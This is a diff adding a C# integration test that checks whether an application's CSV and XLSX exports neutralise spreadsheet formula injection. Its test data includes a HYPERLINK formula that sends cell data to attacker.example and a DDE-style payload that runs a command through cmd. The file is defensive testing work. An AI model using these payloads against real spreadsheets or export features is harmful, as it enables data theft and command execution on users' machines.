@@ -1,0 +1,144 @@
+using System.Globalization;
+using System.Net;
+using System.Reflection;
+using ClosedXML.Excel;
+using CsvHelper;
+using Microsoft.AspNetCore.Http.Metadata;
+using Microsoft.AspNetCore.Mvc.RazorPages;
+using Microsoft.AspNetCore.Routing;
+using Microsoft.EntityFrameworkCore;
+using Microsoft.Extensions.DependencyInjection;
+using RcpHub.Domain;
+using RcpHub.IntegrationTests.Features.Meetings;
+using static RcpHub.IntegrationTests.Features.Delegations.ArrangeDelegations;
+
+namespace RcpHub.IntegrationTests.Infrastructure;
+
+/// <summary>Every CSV and XLSX export, fed values a spreadsheet program would run as formulas and characters XML cannot
+/// hold, read back with a real CSV reader and a real workbook reader.</summary>
+public sealed class ExportTests : IAsyncLifetime
+{
+    private static readonly string[] Hostile =
+    [
+        "=HYPERLINK(\"https://attacker.example/?\"&A1,\"Click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "Bell\u0007, escape\u001b, vertical tab\u000b and \uFFFF",
+    ];
+
+    private static readonly char[] FormulaStarts = ['=', '+', '-', '@', '\t', '\r'];
+
+    private RcpHubFactory _factory = null!;
+    private int _meetingId;
+    private AppUser _secretariat = null!;
+
+    public async ValueTask InitializeAsync()
+    {
+        _factory = await RcpHubFactory.CreateAsync();
+        var midsa = await Arrange.ProcessIdAsync(_factory, "midsa");
+        _secretariat = await TestSignIn.CreateUserAsync(_factory, "secretariat@midsa.example", roles: new ReaderRole(midsa, ProcessRole.Secretariat));
+        var meeting = await Arrange.MeetingAsync(_factory, midsa, "Meeting with hostile delegates", MeetingAudience.Public);
+        _meetingId = meeting.Id;
+        await DelegationAsync(_factory, meeting.Id, "ZAF", _secretariat.Id, DelegationStatus.Confirmed,
+            Hostile.Select((value, i) => Delegate(value, value, Gender.NotStated, head: i == 0, function: value)).ToArray());
+        await using var scope = _factory.Scope();
+        var process = await scope.Db.Processes.SingleAsync(p => p.Id == midsa);
+        process.Name = Hostile[0];
+        process.SecretariatDescription = Hostile[1];
+        process.FormalInstitution = Hostile[6];
+        await scope.Db.SaveChangesAsync();
+    }
+
+    public async ValueTask DisposeAsync() => await _factory.DisposeAsync();
+
+    /// <summary>The exports under test, by what serves them: an API route, or a page handler.</summary>
+    private IEnumerable<(string Export, string Url, bool Xlsx)> Exports() =>
+    [
+        ("/api/v1/processes.csv", "/api/v1/processes.csv", false),
+        ("ParticipantsModel.Csv", $"/meetings/{_meetingId}/participants?handler=Csv", false),
+        ("ParticipantsModel.Xlsx", $"/meetings/{_meetingId}/participants?handler=Xlsx", true),
+    ];
+
+    [Fact]
+    public void The_test_covers_every_export_the_application_serves()
+    {
+        using var client = _factory.CreateClient();
+        var apiExports = _factory.Services.GetRequiredService<EndpointDataSource>().Endpoints
+            .OfType<RouteEndpoint>()
+            .Where(e => e.Metadata.OfType<IProducesResponseTypeMetadata>().SelectMany(p => p.ContentTypes).Any(IsSpreadsheet)
+                || e.RoutePattern.RawText?.EndsWith(".csv", StringComparison.OrdinalIgnoreCase) == true
+                || e.RoutePattern.RawText?.EndsWith(".xlsx", StringComparison.OrdinalIgnoreCase) == true)
+            .Select(e => "/" + e.RoutePattern.RawText!.TrimStart('/'));
+        var pageExports = typeof(Program).Assembly.GetTypes()
+            .Where(t => t.IsSubclassOf(typeof(PageModel)))
+            .SelectMany(t => t.GetMethods(BindingFlags.Public | BindingFlags.Instance | BindingFlags.DeclaredOnly)
+                .Where(m => m.Name.StartsWith("OnGet", StringComparison.Ordinal))
+                .Select(m => m.Name["OnGet".Length..].Replace("Async", "", StringComparison.Ordinal))
+                .Where(h => h.Contains("Csv", StringComparison.OrdinalIgnoreCase) || h.Contains("Xlsx", StringComparison.OrdinalIgnoreCase)
+                    || h.Contains("Excel", StringComparison.OrdinalIgnoreCase) || h.Contains("Export", StringComparison.OrdinalIgnoreCase))
+                .Select(h => $"{t.Name}.{h}"));
+
+        Assert.Equal(apiExports.Concat(pageExports).Order(StringComparer.Ordinal), Exports().Select(e => e.Export).Order(StringComparer.Ordinal));
+    }
+
+    private static bool IsSpreadsheet(string contentType) =>
+        contentType.StartsWith("text/csv", StringComparison.OrdinalIgnoreCase) || contentType.Contains("spreadsheetml", StringComparison.OrdinalIgnoreCase);
+
+    [Fact]
+    public async Task No_export_hands_out_a_cell_that_a_spreadsheet_would_run_as_a_formula()
+    {
+        using var member = await TestSignIn.HtmlClientAsync(_factory, _secretariat);
+        foreach (var (export, url, xlsx) in Exports())
+        {
+            using var response = await member.Http.GetAsync(url);
+            Assert.True(response.StatusCode == HttpStatusCode.OK, $"{export}: {response.StatusCode}");
+            var bytes = await response.Content.ReadAsByteArrayAsync();
+            var cells = xlsx ? XlsxCells(bytes) : CsvCells(bytes);
+
+            Assert.Contains(cells, c => c.Text == "'" + Hostile[0]);
+            Assert.All(cells, c => Assert.False(c.Text.Length > 0 && FormulaStarts.Contains(c.Text[0]) && !c.IsNumber,
+                $"{export}: the cell \"{c.Text}\" starts a formula"));
+            if (xlsx)
+            {
+                Assert.Contains(cells, c => c.Text.StartsWith("Bell\uFFFD", StringComparison.Ordinal));
+            }
+        }
+    }
+
+    internal static List<(string Text, bool IsNumber)> CsvCells(byte[] bytes)
+    {
+        using var csv = CsvReader.Create(bytes, CsvReaderOptions.Default with { HasHeader = false });
+        var cells = new List<(string, bool)>();
+        while (csv.Read())
+        {
+            for (var i = 0; i < csv.FieldCount; i++)
+            {
+                var text = csv.GetString(i);
+                cells.Add((text, double.TryParse(text, NumberStyles.Float, CultureInfo.InvariantCulture, out _)));
+            }
+        }
+        return cells;
+    }
+
+    internal static List<string[]> CsvRows(byte[] bytes)
+    {
+        using var csv = CsvReader.Create(bytes, CsvReaderOptions.Default with { HasHeader = false });
+        var rows = new List<string[]>();
+        while (csv.Read())
+        {
+            rows.Add(Enumerable.Range(0, csv.FieldCount).Select(csv.GetString).ToArray());
+        }
+        return rows;
+    }
+
+    internal static List<(string Text, bool IsNumber)> XlsxCells(byte[] bytes)
+    {
+        using var workbook = new XLWorkbook(new MemoryStream(bytes));
+        return workbook.Worksheets.Single().CellsUsed()
+            .Select(c => (c.HasFormula ? "=" + c.FormulaA1 : c.GetString(), c.DataType == XLDataType.Number))
+            .ToList();
+    }
+}
